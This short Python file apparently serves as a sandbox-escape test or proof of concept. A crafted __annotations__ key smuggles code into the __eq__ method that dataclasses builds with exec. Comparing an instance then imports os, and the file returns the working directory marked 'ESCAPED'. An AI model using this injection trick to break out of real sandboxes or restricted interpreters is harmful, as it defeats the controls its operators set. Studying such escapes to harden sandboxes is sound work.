"""dataclasses builds methods with exec from field names: a crafted __annotations__ key."""
from dataclasses import dataclass


@dataclass(init=False)
class C:
    __annotations__ = {"x or self.box.append(__import__('os'))": int}


def entry(inputs):
    c = C()
    c.x = 0
    c.box = []
    c == c  # noqa: B015
    return "ESCAPED: " + c.box[0].getcwd()
